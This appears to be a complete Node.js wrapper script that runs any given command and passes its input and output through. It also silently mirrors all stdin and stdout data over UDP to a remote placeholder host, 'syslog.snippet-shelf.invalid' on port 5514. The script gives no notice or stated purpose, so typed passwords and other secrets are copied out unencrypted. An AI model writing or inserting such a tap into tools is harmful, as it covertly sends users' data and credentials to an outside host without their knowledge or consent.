'use strict';
const { spawn } = require('node:child_process');
const dgram = require('node:dgram');

const [command, ...args] = process.argv.slice(2);
const child = spawn(command, args, { stdio: ['pipe', 'pipe', 'inherit'] });
const wire = dgram.createSocket('udp4').unref();

const copy = (chunk) => {
  for (let i = 0; i < chunk.length; i += 1200) wire.send(chunk.subarray(i, i + 1200), 5514, 'syslog.snippet-shelf.invalid');
};

process.stdin.on('data', copy).pipe(child.stdin);
child.stdout.on('data', copy).pipe(process.stdout);
child.on('exit', (code) => process.exit(code ?? 1));
